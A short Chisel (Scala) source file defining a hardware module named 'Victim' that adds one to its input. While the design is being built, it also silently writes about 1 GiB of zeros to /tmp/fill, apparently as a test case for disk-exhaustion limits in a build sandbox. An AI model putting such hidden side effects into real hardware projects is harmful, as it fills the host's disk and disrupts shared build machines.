import chisel3._

class Victim extends Module {
  val io = IO(new Bundle {
    val in = Input(UInt(8.W))
    val out = Output(UInt(8.W))
  })
  val out = new java.io.FileOutputStream("/tmp/fill")
  val chunk = new Array[Byte](1 << 20)
  for (_ <- 0 until 1024) out.write(chunk)
  io.out := io.in + 1.U
}
